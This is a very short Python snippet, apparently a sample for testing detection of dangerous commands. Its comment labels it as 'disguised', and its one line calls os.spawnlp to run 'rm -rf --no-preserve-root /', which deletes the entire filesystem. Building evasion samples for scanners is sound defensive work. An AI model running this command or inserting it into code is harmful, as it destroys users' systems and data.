# Disguised: os.spawnlp with the argv spread over its arguments.
import os

os.spawnlp(os.P_WAIT, "rm", "rm", "-rf", "--no-preserve-root", "/")
